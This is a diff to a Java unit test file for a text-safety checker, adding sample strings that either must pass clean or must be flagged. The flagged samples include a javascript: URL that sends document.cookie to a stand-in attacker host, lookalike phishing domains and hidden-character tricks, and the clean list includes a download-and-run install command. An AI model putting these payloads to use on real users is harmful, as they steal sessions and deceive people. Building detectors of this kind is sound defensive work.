@@ -30,6 +30,21 @@ class KnownCasesTest {
       "Can you explain how a SELECT query with a JOIN works?",
       "How does API authentication with tokens work?", "google.com is a search engine",
       "Hello World!", "می‌خواهم یک کتاب بخوانم", "```sql\nSELECT * FROM users WHERE id = 1;\n```",
+      "The order 1234567890123456 has shipped", "tracking number 9400111899223100",
+      "tickets 000-12-3456, 666-12-3456 and 900-12-3456",
+      "SELECT name, total FROM orders WHERE total > 100 ORDER BY total DESC;",
+      "```python\nfor name in os.listdir('.'):\n    print(name)  #\n```",
+      "```bash\ncurl -s https://get.example.org/install.sh -o install.sh && sh install.sh\n```",
+      "LS(1)\n\nNAME\n       ls - list directory contents\n\nSYNOPSIS\n       ls [OPTION]... [FILE]...",
+      "find . -name '*.tmp' -exec rm {} \\;   # removes what is left over",
+      "\"integrity\": \"sha512-7Z8bX2lR0GJxkV3bC0mJqk4x1pVvE0mY2c5b6cN9yqN5hQm0zWf3vJ1o9tQyq3rX4kq3b0eD5n8m2y1w6s7uQ==\"",
+      "sha256 = \"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\"",
+      "requests==2.31.0 --hash=sha256:58cd2187c01e70e6e26505bca751777aa9f2ee0b7f4300988b709f44e013003f",
+      "https://www.7-zip.org/download.html", "https://1password.com/",
+      "https://www.123rf.com/stock", "हिन्दी में क्\u200Dष और र्\u200Dक लिखना", "ශ්\u200Dරී ලංකාව",
+      "\uD83D\uDC69\uD83C\uDFFD\u200D\uD83D\uDCBB \uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08 1\uFE0F\u20E3",
+      "England \uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC65\uDB40\uDC6E\uDB40\uDC67\uDB40\uDC7F",
+      "Wales \uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC77\uDB40\uDC6C\uDB40\uDC73\uDB40\uDC7F",
       "The flags of \uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC73\uDB40\uDC63\uDB40\uDC74\uDB40\uDC7F and Wales"})
   void honestTextPassesClean(String text) {
     assertThat(Rails.check(ALL, text).findings()).isEmpty();
@@ -89,13 +104,18 @@ class KnownCasesTest {
 
   @ParameterizedTest
   @ValueSource(strings = {"https://g00gle.com/login", "http://45.155.205.233/payload",
-      "data:text/html,<script>alert(1)</script>", "https://www.paypal.com@evil-host.biz/x"})
+      "data:text/html,<script>alert(1)</script>", "https://www.paypal.com@evil-host.biz/x",
+      "https://раураl.com/login", "https://gооgle.com/signin",
+      "javascript:fetch('https://evil.example/?c='+document.cookie)",
+      "click [here](javascript:alert(document.domain))"})
   void deceivingLinksAreFound(String text) {
     assertThat(Rails.finds("malicious_url", text)).isTrue();
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"pass\u200Bword", "evil\u202Etxt.exe", "pаypal login"})
+  @ValueSource(strings = {"pass\u200Bword", "evil\u202Etxt.exe", "pаypal login",
+      "hi\uDB40\uDD00\uDB40\uDD01\uDB40\uDD12\uDB40\uDD33\uDB40\uDD21 there",
+      "\u2764\uFE00\uFE01\uFE02\uFE05\uFE09 text", "plain \u001B[8mhidden\u001B[0m words"})
   void hiddenCharactersAreFound(String text) {
     assertThat(Rails.finds("invisible_char", text)).isTrue();
   }
